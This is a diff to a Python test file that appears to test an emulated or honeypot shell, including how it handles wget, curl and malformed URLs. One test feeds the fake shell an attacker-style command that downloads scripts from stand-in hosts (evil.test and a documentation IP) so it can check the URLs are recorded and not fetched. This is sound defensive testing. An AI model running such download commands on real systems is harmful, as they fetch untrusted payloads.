@@ -90,15 +90,16 @@ def test_answers_of_an_ordinary_account(line: str, answer: bytes) -> None:
     assert said(line, name="mdavis") == answer
 
 
+async def at_once(seconds: float) -> None:
+    """The sleep of a shell, without it."""
+    assert seconds <= 20
+
+
 def test_fetchers_fetch_nothing_and_say_where_they_were_sent() -> None:
     async def scenario() -> None:
         ours = shell()
         facts: list[Fact] = []
         ours.on_fact = facts.append
-
-        async def at_once(seconds: float) -> None:
-            assert seconds <= 20
-
         ours.sleep = at_once  # type: ignore[method-assign]
         result = await ours.run("cd /tmp; wget http://evil.test/a.sh; curl -s -O http://198.51.100.9/b; tftp x")
         assert result.urls == ("http://evil.test/a.sh", "http://198.51.100.9/b")
@@ -111,9 +112,11 @@ def test_fetchers_fetch_nothing_and_say_where_they_were_sent() -> None:
 
 @pytest.mark.parametrize(("url", "fault"), [("http://[", "Unterminated"), ("http://]", "Invalid")])
 def test_an_address_that_cannot_be_read_is_a_fault_of_the_visitor(url: str, fault: str) -> None:
-    result = asyncio.run(shell().run(f"wget '{url}'"))
+    ours = shell()
+    ours.sleep = at_once  # type: ignore[method-assign]
+    result = asyncio.run(ours.run(f"wget '{url}'"))
     assert (result.status, result.err) == (1, f"{url}: {fault} IPv6 numeric address.\n".encode())
-    assert asyncio.run(shell().run(f"curl '{url}'")).status != 0
+    assert asyncio.run(ours.run(f"curl '{url}'")).status != 0
 
 
 def test_a_session_records_its_lines_keys_and_screen() -> None:
